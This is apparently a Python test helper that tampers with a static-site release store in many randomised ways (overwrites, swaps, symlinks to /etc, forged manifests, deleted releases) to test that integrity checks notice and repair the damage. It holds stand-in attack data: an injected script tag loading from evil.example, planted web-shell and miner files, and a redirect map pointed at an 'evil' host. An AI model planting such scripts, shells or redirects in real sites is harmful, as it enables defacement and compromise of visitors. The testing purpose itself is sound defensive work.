"""Ways to tamper with a store, each at a place picked by chance, for tests that it is found and mended."""

from __future__ import annotations

import os
import random
import shutil
from pathlib import Path

from tests.tampered import SHELL, flip, pick_file, pick_folder, pick_link, pick_release, retarget, tampering, write

# Files


@tampering
def overwrite(root: Path, chance: random.Random) -> None:
    write(pick_file(root, chance), b"<h1>defaced</h1>")


@tampering
def overwrite_with_the_same_size(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    write(file, flip(file.read_bytes(), chance))


@tampering
def overwrite_and_set_time_and_mode_back(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    times = file.stat().st_atime_ns, file.stat().st_mtime_ns
    write(file, flip(file.read_bytes(), chance))
    file.chmod(0o444)
    os.utime(file, ns=times)


@tampering
def append(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    write(file, file.read_bytes() + b"<script src=//evil.example></script>")


@tampering
def truncate(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    file.chmod(0o644)
    os.truncate(file, file.stat().st_size // 2)


@tampering
def swap_two_files(root: Path, chance: random.Random) -> None:
    one = other = pick_file(root, chance)
    while one.read_bytes() == other.read_bytes():
        other = pick_file(root, chance)
    contents = one.read_bytes(), other.read_bytes()
    write(one, contents[1])
    write(other, contents[0])


@tampering
def delete_a_file(root: Path, chance: random.Random) -> None:
    pick_file(root, chance).unlink()


@tampering
def move_another_file_over_one(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    evil = root.parent / "evil"
    evil.write_bytes(flip(file.read_bytes(), chance))
    os.utime(evil, ns=(file.stat().st_atime_ns, file.stat().st_mtime_ns))
    evil.chmod(0o444)
    evil.rename(file)


@tampering
def set_the_time_of_a_file(root: Path, chance: random.Random) -> None:
    os.utime(pick_file(root, chance), (chance.randrange(10**9), chance.randrange(10**9)))


@tampering
def change_the_mode_of_a_file(root: Path, chance: random.Random) -> None:
    pick_file(root, chance).chmod(chance.choice((0o000, 0o400, 0o644, 0o666, 0o777, 0o4555)))


@tampering
def give_a_file_away(root: Path, chance: random.Random) -> None:
    if os.geteuid():
        pick_file(root, chance).chmod(0o466)
    else:
        os.chown(pick_file(root, chance), 65534, 65534)


@tampering
def put_a_symlink_for_a_file(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    file.unlink()
    file.symlink_to(chance.choice(("/etc/hostname", "nowhere", "../../../assets")))


@tampering
def put_a_folder_for_a_file(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    file.unlink()
    file.mkdir()
    (file / "index.html").write_bytes(SHELL)


@tampering
def put_a_pipe_for_a_file(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance)
    file.unlink()
    os.mkfifo(file)


@tampering
def put_a_pipe_for_what_a_store_says_of_itself(root: Path, chance: random.Random) -> None:
    places = ("releases/*/manifest.json", "releases/*/ordered", "ordered/*", "trees/*.list", "trees/*.map")
    file = pick_file(root, chance, chance.choice(places))
    file.unlink()
    os.mkfifo(file)


# Folders


@tampering
def add_a_web_shell(root: Path, chance: random.Random) -> None:
    name = chance.choice(("shell.php", ".hidden.php", "index.php", ".new-1-x.html", "a b.html", "页.html"))
    (pick_folder(root, chance) / name).write_bytes(SHELL)


@tampering
def hide_behind_the_name_of_something_unfinished(root: Path, chance: random.Random) -> None:
    folder = chance.choice((pick_folder(root, chance), root / "assets" / "css", pick_release(root, chance) / "sites"))
    (folder / ".new-1-shell.php").write_bytes(SHELL)


@tampering
def add_a_folder(root: Path, chance: random.Random) -> None:
    folder = pick_folder(root, chance) / "admin" / "deep"
    folder.mkdir(parents=True)
    (folder / "login.html").write_bytes(SHELL)
    if chance.random() < 0.5:
        folder.parent.chmod(0o555)


@tampering
def add_a_symlink(root: Path, chance: random.Random) -> None:
    (pick_folder(root, chance) / "etc").symlink_to("/etc")


@tampering
def delete_a_folder(root: Path, chance: random.Random) -> None:
    shutil.rmtree(pick_folder(root, chance))


@tampering
def close_a_folder(root: Path, chance: random.Random) -> None:
    pick_folder(root, chance).chmod(chance.choice((0o000, 0o700, 0o777)))


@tampering
def put_a_symlink_for_a_folder(root: Path, chance: random.Random) -> None:
    folder = pick_folder(root, chance)
    elsewhere = root.parent / "elsewhere"
    shutil.rmtree(elsewhere, ignore_errors=True)
    folder.rename(elsewhere)
    folder.symlink_to(elsewhere)


@tampering
def put_a_file_for_a_folder(root: Path, chance: random.Random) -> None:
    folder = pick_folder(root, chance)
    shutil.rmtree(folder)
    folder.write_bytes(SHELL)


@tampering
def delete_a_tree(root: Path, chance: random.Random) -> None:
    shutil.rmtree(chance.choice(sorted(tree for tree in root.glob("trees/*") if tree.is_dir())))


# Links


@tampering
def lead_current_elsewhere(root: Path, chance: random.Random) -> None:
    evil = root.parent / "evil-release" / "sites"
    evil.mkdir(parents=True, exist_ok=True)
    retarget(root / "current", chance.choice((str(evil.parent), "releases", "nowhere")))


@tampering
def lead_current_to_another_release(root: Path, _: random.Random) -> None:
    retarget(root / "current", f"releases/{min(r.name for r in root.glob('releases/*'))}")


@tampering
def put_a_folder_for_current(root: Path, _: random.Random) -> None:
    (root / "current").unlink()
    (root / "current" / "sites").mkdir(parents=True)


@tampering
def delete_current(root: Path, _: random.Random) -> None:
    (root / "current").unlink()


@tampering
def retarget_the_link_of_a_site(root: Path, chance: random.Random) -> None:
    retarget(pick_link(root, chance, "releases/*/sites/**/*"), chance.choice(("/etc", "..", "../../../trees")))


@tampering
def lead_the_link_of_a_site_to_an_older_tree(root: Path, chance: random.Random) -> None:
    link = pick_link(root, chance, "releases/*/sites/mzj.*")
    trees = sorted(tree for tree in root.glob(f"trees/*/{link.name}") if tree != link.resolve())
    retarget(link, os.path.relpath(chance.choice(trees), link.parent))


@tampering
def delete_the_link_of_a_site(root: Path, chance: random.Random) -> None:
    pick_link(root, chance, "releases/*/sites/**/*").unlink()


@tampering
def put_a_folder_for_the_link_of_a_site(root: Path, chance: random.Random) -> None:
    link = pick_link(root, chance, "releases/*/sites/*")
    link.unlink()
    link.mkdir()
    (link / "index.html").write_bytes(SHELL)


@tampering
def add_a_site(root: Path, chance: random.Random) -> None:
    place = pick_release(root, chance) / "sites" / "casino.yunling.gov.example"
    place.mkdir()
    (place / "index.html").write_bytes(SHELL)


@tampering
def retarget_the_link_of_assets(root: Path, chance: random.Random) -> None:
    retarget(pick_link(root, chance, "trees/*/*/assets"), "/tmp")


@tampering
def retarget_the_link_of_redirects(root: Path, chance: random.Random) -> None:
    retarget(pick_link(root, chance, "releases/*/redirects/*.map"), "/dev/null")


# What a store says of itself


@tampering
def change_a_manifest(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance, "releases/*/manifest.json")
    write(file, file.read_bytes().replace(b'"pages": 1', b'"pages": 2', 1))


@tampering
def garble_a_manifest(root: Path, chance: random.Random) -> None:
    write(pick_file(root, chance, "releases/*/manifest.json"), chance.randbytes(300))


@tampering
def delete_a_manifest(root: Path, chance: random.Random) -> None:
    pick_file(root, chance, "releases/*/manifest.json").unlink()


@tampering
def take_the_manifest_of_another_release(root: Path, _: random.Random) -> None:
    files = sorted(root.glob("releases/*/manifest.json"))
    write(files[-1], files[0].read_bytes())


@tampering
def add_a_signature(root: Path, chance: random.Random) -> None:
    (pick_release(root, chance) / "manifest.json.sig").write_bytes(b"-----BEGIN SSH SIGNATURE-----\n")


@tampering
def change_a_listing(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance, "trees/*.list")
    write(file, flip(file.read_bytes(), chance))


@tampering
def delete_a_listing(root: Path, chance: random.Random) -> None:
    pick_file(root, chance, "trees/*.list").unlink()


@tampering
def change_a_map_of_redirects(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance, "trees/*.map")
    write(file, file.read_bytes().replace(b"https://www", b"https://evil", 1))


@tampering
def delete_a_release(root: Path, chance: random.Random) -> None:
    shutil.rmtree(pick_release(root, chance))


@tampering
def delete_the_newest_order(root: Path, chance: random.Random) -> None:
    newest = max(release.name for release in root.glob("releases/*"))
    chance.choice((root / "ordered" / newest, root / "releases" / newest / "ordered")).unlink()


@tampering
def change_an_order(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance, chance.choice(("ordered/*", "releases/*/ordered")))
    write(file, chance.choice((b"", b"nonsense\n", f"{'0' * 64} -\n".encode())))


@tampering
def delete_all_orders_of_one_kind(root: Path, chance: random.Random) -> None:
    for file in root.glob(chance.choice(("ordered/*", "releases/*/ordered"))):
        file.unlink()


# The theme's files


@tampering
def change_a_file_of_the_theme(root: Path, chance: random.Random) -> None:
    file = pick_file(root, chance, "assets/**/*")
    write(file, flip(file.read_bytes(), chance))


@tampering
def delete_a_file_of_the_theme(root: Path, chance: random.Random) -> None:
    pick_file(root, chance, "assets/**/*").unlink()


@tampering
def add_a_file_to_the_theme(root: Path, _: random.Random) -> None:
    (root / "assets" / "css" / "miner.js").write_bytes(SHELL)


@tampering
def close_the_folder_of_the_theme(root: Path, _: random.Random) -> None:
    (root / "assets").chmod(0o700)


# What is not served


@tampering
def add_a_release(root: Path, _: random.Random) -> None:
    # Made beside and moved in: a watch would take it away while it is being copied.
    copy = shutil.copytree(max(root.glob("releases/*")), root.parent / "evil-copy", symlinks=True)
    copy.rename(root / "releases" / "evil")


@tampering
def damage_all_of_a_host(root: Path, chance: random.Random) -> None:
    for file in root.glob(f"{chance.choice(sorted(root.glob('trees/*/*.example'))).relative_to(root)}/**/*.html"):
        write(file, b"<h1>defaced</h1>")
